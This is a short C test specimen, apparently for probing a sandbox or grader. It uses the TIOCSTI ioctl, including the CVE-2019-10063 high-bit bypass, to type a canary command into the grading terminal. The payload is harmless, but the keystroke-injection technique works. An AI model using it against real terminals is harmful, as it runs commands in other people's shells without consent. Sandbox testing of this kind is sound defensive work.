/* TIOCSTI puts characters into a terminal as if somebody had typed them: into the shell of whoever grades. Also with a
 * number that only looks like another (CVE-2019-10063). */
#include "specimen.h"

int main(void) {
  static const char *const terminals[] = {"/dev/tty", "/dev/stdin", "/dev/stdout", "/proc/self/fd/2"};
  int typed = 0;
  setsid();
  for (size_t i = 0; i < array_size(terminals); i++) {
    int fd = open(terminals[i], O_RDWR);
    ioctl(fd, TIOCSCTTY, 1);
    for (const char *c = "touch /tmp/canary.touched\n"; *c; c++) {
      typed += syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI, c) == 0;
      typed += syscall(SYS_ioctl, fd, 0x100000000UL | TIOCSTI, c) == 0;
    }
  }
  if (typed)
    printf("typed %d letters\n", typed);
  return hello();
}
